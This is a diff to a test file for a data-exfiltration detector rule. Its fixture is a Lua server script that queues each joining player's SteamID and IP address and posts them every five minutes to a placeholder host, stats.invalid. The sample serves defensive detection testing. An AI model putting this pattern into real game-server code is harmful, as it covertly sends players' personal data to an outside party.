@@ -38,15 +38,11 @@ describe('dataexfiltration', () => {
     expect(findings.filter((f) => f.severity !== 'low')).toEqual([]);
   });
   it('players\u2019 IPs batched by a join hook, posted by a timer', () => {
-    // The join hook logs and stores; what leaves is sent later, from another handler.
+    // The join hook only stores; what leaves is sent later, from another handler.
     const findings = check(rule, {
       'lua/autorun/server/sv_x.lua': [
         'local queue = {}',
-        'hook.Add("PlayerInitialSpawn", "vip", function(ply)',
-        ' local line = ply:SteamID64() .. "|" .. ply:IPAddress()',
-        ' file.Append("vip_joins.txt", line .. "\\n")',
-        ' queue[#queue + 1] = line',
-        'end)',
+        'hook.Add("PlayerInitialSpawn", "vip", function(ply) queue[#queue + 1] = ply:SteamID64() .. "|" .. ply:IPAddress() end)',
         'timer.Create("stats", 300, 0, function()',
         ' if #queue == 0 then return end',
         ' http.Post("https://stats.invalid/log.php", { d = table.concat(queue, ";") })',
